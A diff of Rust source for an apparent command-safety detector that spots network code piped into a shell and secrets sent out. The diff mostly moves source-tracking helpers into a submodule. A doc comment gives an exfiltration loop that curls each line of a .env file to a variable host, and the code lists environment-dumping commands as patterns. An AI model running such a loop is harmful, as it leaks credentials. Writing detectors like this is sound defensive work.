@@ -1,30 +1,16 @@
 //! What flows from one command into another: code from the network into a shell, secrets out to the network.
 
+mod sources;
+
+use self::sources::{shows_environment, sources};
 use super::{Candidate, Look, net, paths, secrets};
-use crate::see::{Finding, Input, Seen};
-use crate::tools::{Arguments, Category, PathRole, Reach, Runs, RunsKind, Tool};
+use crate::see::{Finding, Input};
+use crate::tools::{Category, PathRole, Reach, RunsKind, Tool};
+
+pub(super) use self::sources::AskedBefore;
 
 /// Commands that are followed up a stream.
 const MAX_STREAM: usize = 64;
-/// Bytes of a word that are compared with paths; no longer one can be opened.
-const MAX_PATH: usize = 4096;
-
-/// Where what comes into a command comes from.
-#[expect(clippy::struct_excessive_bools, reason = "independent facts, each true or not")]
-#[derive(Debug, Default)]
-struct Sources {
-    fetched: bool,
-    decoded: bool,
-    secret: bool,
-    environment: bool,
-    any: bool,
-    gate: bool,
-    bulk: bool,
-    /// What is packed lies outside of the work tree.
-    elsewhere: bool,
-    /// A shell that reads its commands while it runs.
-    terminal: bool,
-}
 
 pub(super) fn candidates<'t>(look: &Look<'t>) -> Vec<Candidate<'t>> {
     let mut found = Vec::new();
@@ -118,10 +104,10 @@ fn joins_names(look: &Look<'_>) -> bool {
 
 /// `while read l; do curl "$u/$l"; done < .env`: what stands behind a loop is what those in it read.
 fn reads_secrets_in_a_loop(look: &Look<'_>) -> bool {
-    let behind = look.all.get(look.at + 1..).unwrap_or_default().iter().take(MAX_STREAM);
-    let mut loops = behind.filter(|other| other.words.is_empty() && other.parent == look.seen.parent);
+    let behind = look.all.iter().enumerate().skip(look.at + 1).take(MAX_STREAM);
+    let mut loops = behind.filter(|(_, other)| other.words.is_empty() && other.parent == look.seen.parent);
     look.seen.words.iter().skip(1).any(|word| !word.literal)
-        && loops.any(|other| secrets::reads_one(look, other))
+        && loops.any(|(number, other)| look.so_far.asked.reads_secret(look, number, other))
 }
 
 /// Whether it writes a line that fetches and runs something into a file that is no text for humans.
@@ -149,33 +135,14 @@ fn plants(look: &Look<'_>) -> bool {
             || matches!(&look.seen.input, Input::Text(text) if fetches_and_runs(text)))
 }
 
-/// Whether a command prints what a cloud, a cluster or a tool of infrastructure keeps: `terraform output -json`.
-fn hands_out(tool: &Tool, seen: &Seen) -> bool {
-    let keeps = |word: &[u8]| {
-        matches!(
-            word,
-            b"output"
-                | b"state"
-                | b"config"
-                | b"env"
-                | b"secret"
-                | b"secrets"
-                | b"variables"
-                | b"inspect"
-                | b"values"
-        )
-    };
-    let reaches = tool.reach.iter().any(|reach| matches!(reach, Reach::Cloud | Reach::Cluster));
-    reaches && seen.words.iter().skip(1).take(4).any(|word| keeps(word.text.as_bytes()))
-}
-
 /// Whether it sends a file into which an earlier command of the same text wrote secrets or the environment.
 fn sends_written(look: &Look<'_>) -> bool {
     let words = look.seen.words.get(1..).unwrap_or_default();
     // A push takes along whatever was added and committed before.
     let pushes =
         look.seen.program.name == "git" && words.first().is_some_and(|word| word.text.as_bytes() == b"push");
-    look.all[look.at.saturating_sub(MAX_STREAM)..look.at].iter().any(|earlier| {
+    let before = look.at.saturating_sub(MAX_STREAM)..look.at;
+    before.clone().zip(&look.all[before]).any(|(number, earlier)| {
         let written = earlier.redirections.iter().filter(|redirection| redirection.writes);
         let mut files = written.filter_map(|redirection| redirection.target.as_ref());
         let sent = files.any(|file| {
@@ -184,7 +151,7 @@ fn sends_written(look: &Look<'_>) -> bool {
                 || file.len() > 1
                     && words.iter().take(64).any(|word| word.text.to_lossy().ends_with(file.as_ref()))
         });
-        sent && (shows_environment(earlier) || secrets::shows_secret(look, earlier))
+        sent && (shows_environment(earlier) || look.so_far.asked.shows_secret(look, number, earlier))
     })
 }
 
@@ -213,72 +180,4 @@ fn runs_code(tool: &Tool) -> bool {
             .runs
             .iter()
             .any(|runs| matches!(runs.kind, RunsKind::Script | RunsKind::Joined) && !runs.elsewhere)
-}
-
-/// What the commands that write into this one are, and those that write into them.
-fn sources(look: &Look<'_>, from: impl Iterator<Item = usize>) -> Sources {
-    let mut sources = Sources::default();
-    let mut todo: Vec<usize> = from.take(MAX_STREAM).collect();
-    let mut done = 0;
-    while let Some(number) = todo.pop() {
-        done += 1;
-        if done > MAX_STREAM {
-            break;
-        }
-        let Some(seen) = look.all.get(number) else { continue };
-        sources.any = true;
-        sources.terminal |= is_terminal(look, seen);
-        if let Some(tool) = look.tools.find(&seen.program.name) {
-            sources.fetched |= tool.fetches;
-            sources.decoded |= tool.decodes;
-            let under = seen.words.get(1).map(|word| word.text.to_lossy());
-            let packs = |sub: &String| under.as_deref() == Some(sub.as_str());
-            let reads_database = tool.sql.is_some() && tool.reach.contains(&Reach::Database);
-            let bulk =
-                tool.bulk || reads_database || hands_out(tool, seen) || tool.bulk_under.iter().any(packs);
-            sources.bulk |= bulk;
-            sources.elsewhere |= bulk && !sources.elsewhere && {
-                let mut words = seen.words.iter().skip(1).take(MAX_STREAM).map(|word| word.text.to_lossy());
-                words.any(|word| word.starts_with(['/', '~']) && paths::lies_elsewhere(look, &word))
-            };
-        }
-        sources.gate |= seen.words.iter().skip(1).take(16).any(|word| {
-            let bytes = word.text.as_bytes();
-            let path = format!("/{}", String::from_utf8_lossy(&bytes[..bytes.len().min(MAX_PATH)]));
-            look.known.places.gate.fit(&path)
-        });
-        sources.secret |= secrets::shows_secret(look, seen) || secrets::looks_for_some(look, seen);
-        sources.environment |= shows_environment(seen);
-        if seen.wraps {
-            // What was taken out of one command stands together, behind what was taken out of those before it.
-            let first = look.all.partition_point(|other| other.parent < Some(number));
-            let inner = look.all[first..].iter().take_while(|other| other.parent == Some(number));
-            todo.extend((first..).zip(inner).map(|(inner, _)| inner).take(MAX_STREAM));
-        }
-        todo.extend(seen.upstream.iter().chain(&seen.substituted).copied().filter(|next| *next != number));
-    }
-    sources
-}
-
-/// A shell without a script and without a text: what it runs comes from where it reads.
-fn is_terminal(look: &Look<'_>, seen: &Seen) -> bool {
-    let Some(tool) = look.tools.find(&seen.program.name) else { return false };
-    let script = tool.runs.iter().find(|runs| runs.kind == RunsKind::Script);
-    let reads = |runs: &Runs| {
-        let arguments = Arguments::read(Some(tool), &seen.words, None);
-        arguments.free().is_empty() && !arguments.has(&runs.options) && !tool.runs_files
-    };
-    script.is_some_and(reads) && !seen.program_from_text && !matches!(seen.input, Input::Text(_))
-}
-
-/// `env`, `printenv`, `set`, `export -p` without arguments that narrow them.
-fn shows_environment(seen: &Seen) -> bool {
-    let rest = seen.words.len() - usize::from(!seen.words.is_empty());
-    match seen.program.name.as_str() {
-        "env" | "printenv" | "set" => rest == 0,
-        "export" | "declare" | "typeset" => {
-            seen.words.get(1).is_none_or(|word| matches!(word.text.as_bytes(), b"-p" | b"-x" | b"-px"))
-        }
-        _ => false,
-    }
 }
